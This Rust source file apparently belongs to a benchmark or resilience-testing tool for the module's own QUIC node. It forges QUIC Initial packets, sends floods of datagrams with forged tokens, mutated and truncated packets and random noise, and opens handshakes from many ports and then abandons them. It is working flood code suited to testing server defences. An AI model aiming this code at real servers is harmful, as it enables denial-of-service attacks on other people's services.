//! QUIC datagrams of unknown senders: forged or mutated Initial packets, and handshakes that are abandoned.
//!
//! An Initial packet (RFC 9000, 17.2.2) is protected with keys that follow from its own connection id, so that
//! anybody can make one (RFC 9001, 5.2).

use std::{net::SocketAddr, sync::Arc, time::Duration};

use hailwire::carrier::tcp::name_of;
use rustls::{
    ClientConfig, Side,
    crypto::ring::cipher_suite::TLS13_AES_128_GCM_SHA256,
    quic::{ClientConnection, Version},
};
use tokio::net::UdpSocket;

use super::{AttackCounters, AttackOrders, pace};
use crate::{
    BenchError,
    siege::peer::{ALPN, NodeAddress, XorshiftBytes},
};

/// The smallest datagram that may hold an Initial packet (RFC 9000, 14.1).
const DATAGRAM_BYTES: usize = 1_200;

/// Bytes of a packet number, as long as it may be.
const PACKET_NUMBER_BYTES: usize = 4;

/// Bytes that authenticate a packet.
const TAG_BYTES: usize = 16;

/// How long answers to an abandoned handshake are counted.
const RECEIVE_TIME: Duration = Duration::from_millis(500);

/// Makes Initial packets.
pub(super) struct InitialForge {
    config: Arc<ClientConfig>,
    address: NodeAddress,
    noise: XorshiftBytes,
}

impl InitialForge {
    pub(super) fn new(orders: &AttackOrders) -> Result<Self, BenchError> {
        Ok(Self {
            config: orders.seed(0)?.identity()?.dialling(vec![ALPN.to_vec()]),
            address: orders.victim,
            noise: XorshiftBytes::new()?,
        })
    }

    /// A datagram with which a handshake begins, with a token or an empty one.
    pub(super) fn initial(&mut self, token: &[u8]) -> Result<Vec<u8>, BenchError> {
        let (to, from) = (self.noise.bytes(8), self.noise.bytes(8));
        let hello = self.hello(&from)?;
        let mut packet = vec![0xc0 | (PACKET_NUMBER_BYTES as u8 - 1), 0, 0, 0, 1];
        for id in [&to, &from] {
            packet.push(id.len() as u8);
            packet.extend_from_slice(id);
        }
        put_number(&mut packet, token.len());
        packet.extend_from_slice(token);
        let payload = DATAGRAM_BYTES - packet.len() - 2 - PACKET_NUMBER_BYTES - TAG_BYTES;
        put_number(&mut packet, PACKET_NUMBER_BYTES + payload + TAG_BYTES);
        let number = packet.len();
        packet.extend_from_slice(&[0; PACKET_NUMBER_BYTES]);
        let head = packet.len();
        // One CRYPTO frame; the rest is padding.
        packet.extend_from_slice(&[0x06, 0x00]);
        put_number(&mut packet, hello.len());
        packet.extend_from_slice(&hello);
        packet.resize(head + payload, 0);
        protect(&mut packet, &to, number, head)?;
        Ok(packet)
    }

    /// A ClientHello.
    fn hello(&self, from: &[u8]) -> Result<Vec<u8>, BenchError> {
        let mut parameters = vec![0x0f, from.len() as u8];
        parameters.extend_from_slice(from);
        // Bytes of data, and streams that the remote side may open.
        for name in [0x04, 0x05, 0x06, 0x08] {
            parameters.extend_from_slice(&[name, 2, 0x7f, 0xff]);
        }
        let name = name_of(&self.address.node);
        let tls = ClientConnection::new(self.config.clone(), Version::V1, name, parameters);
        let mut hello = Vec::new();
        tls.map_err(BenchError::failed("starting a handshake"))?
            .write_hs(&mut hello);
        Ok(hello)
    }
}

/// A number in two bytes (RFC 9000, 16).
fn put_number(out: &mut Vec<u8>, number: usize) {
    out.extend_from_slice(&(number as u16 | 0x4000).to_be_bytes());
}

/// Protects an Initial packet of a client, whose number is at `number` and whose frames begin at `head`.
fn protect(packet: &mut Vec<u8>, to: &[u8], number: usize, head: usize) -> Result<(), BenchError> {
    let suite = TLS13_AES_128_GCM_SHA256.tls13();
    let suite = suite.and_then(|suite| suite.quic_suite());
    let suite = suite.ok_or(BenchError::Unsupported("no cipher for Initial packets"))?;
    let keys = suite.keys(to, Side::Client, Version::V1).local;
    let (front, payload) = packet.split_at_mut(head);
    let tag = keys.packet.encrypt_in_place(0, front, payload);
    let tag = tag.map_err(BenchError::failed("encrypting a packet"))?;
    packet.extend_from_slice(tag.as_ref());
    let sample_at = number + 4;
    let sample = packet[sample_at..sample_at + keys.header.sample_len()].to_vec();
    let (first, rest) = packet.split_at_mut(1);
    let number = &mut rest[number - 1..number - 1 + PACKET_NUMBER_BYTES];
    let hidden = keys.header.encrypt_in_place(&sample, &mut first[0], number);
    hidden.map_err(BenchError::failed("encrypting a packet"))
}

async fn socket() -> Result<UdpSocket, BenchError> {
    let any = SocketAddr::from(([127, 0, 0, 1], 0));
    UdpSocket::bind(any)
        .await
        .map_err(BenchError::io("binding"))
}

/// Forged and mutated datagrams, half of them with forged tokens.
pub(super) async fn tokens(
    orders: &AttackOrders,
    counters: &AttackCounters,
) -> Result<(), BenchError> {
    let mut forge = InitialForge::new(orders)?;
    let mut sockets = Vec::new();
    for _ in 0..8 {
        sockets.push(socket().await?);
    }
    let mut pace = pace(200.0);
    let mut buffer = vec![0; 65_536];
    for turn in 0_usize.. {
        pace.tick().await;
        let (what, datagram) = odd(&mut forge, turn)?;
        let socket = &sockets[turn % sockets.len()];
        if socket.send_to(&datagram, orders.victim.udp).await.is_ok() {
            counters.did(what, 1);
            counters.did("bytes sent", datagram.len() as u64);
        }
        while let Ok((len, _)) = socket.try_recv_from(&mut buffer) {
            counters.did("bytes answered", len as u64);
        }
    }
    Ok(())
}

/// A malformed datagram.
fn odd(forge: &mut InitialForge, turn: usize) -> Result<(&'static str, Vec<u8>), BenchError> {
    Ok(match turn % 6 {
        0 | 1 => {
            let len = forge.noise.below(200) + 1;
            let token = forge.noise.bytes(len);
            ("Initials with a forged token", forge.initial(&token)?)
        }
        2 => {
            // Below the address validation of RFC 9000, 8.1: a token of the lengths that QUIC implementations use.
            let mut token = forge.noise.bytes(65);
            token[0] = (turn % 3) as u8;
            ("Initials with a forged token", forge.initial(&token)?)
        }
        3 => {
            let mut datagram = forge.initial(&[])?;
            for _ in 0..=forge.noise.below(8) {
                let at = forge.noise.below(datagram.len());
                datagram[at] ^= 1 << forge.noise.below(8);
            }
            ("mutated Initials", datagram)
        }
        4 => {
            let mut datagram = forge.initial(&[])?;
            datagram[4] = 0x6b;
            datagram.truncate(forge.noise.below(DATAGRAM_BYTES) + 1);
            ("other versions and lengths", datagram)
        }
        _ => {
            let len = forge.noise.below(DATAGRAM_BYTES) + 1;
            ("noise", forge.noise.bytes(len))
        }
    })
}

/// Handshakes that are begun and abandoned, each from a port of its own.
pub(super) async fn initials(
    orders: &AttackOrders,
    counters: &AttackCounters,
) -> Result<(), BenchError> {
    let mut forge = InitialForge::new(orders)?;
    let mut pace = pace(40.0);
    loop {
        pace.tick().await;
        let socket = socket().await?;
        let datagram = forge.initial(&[])?;
        if socket.send_to(&datagram, orders.victim.udp).await.is_err() {
            continue;
        }
        counters.did("handshakes begun", 1);
        counters.did("bytes sent", datagram.len() as u64);
        let counters = counters.clone();
        tokio::spawn(async move {
            let count = async {
                let mut buffer = vec![0; 2_048];
                while let Ok(len) = socket.recv(&mut buffer).await {
                    counters.did("bytes answered", len as u64);
                    // A Retry packet (RFC 9000, 17.2.5) asks the client to prove its address first.
                    if buffer[0] & 0xf0 == 0xf0 {
                        counters.refused("asked to prove its address");
                    }
                }
            };
            let _ = tokio::time::timeout(RECEIVE_TIME, count).await;
        });
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_initial_packet_is_as_long_as_it_must_be_and_its_number_is_hidden() {
        let mut packet = vec![0xc3, 0, 0, 0, 1, 2, 7, 7, 0, 0x40, 0];
        put_number(&mut packet, PACKET_NUMBER_BYTES + 100 + TAG_BYTES);
        let number = packet.len();
        packet.extend_from_slice(&[0; PACKET_NUMBER_BYTES]);
        let head = packet.len();
        packet.resize(head + 100, 0);
        protect(&mut packet, &[7, 7], number, head).unwrap();
        assert_eq!(packet.len(), head + 100 + TAG_BYTES);
        assert_eq!(packet[0] & 0xf0, 0xc0);
        assert_ne!(packet[number..head], [0; PACKET_NUMBER_BYTES]);
        let mut out = Vec::new();
        put_number(&mut out, 300);
        assert_eq!(out, [0x41, 0x2c]);
    }
}
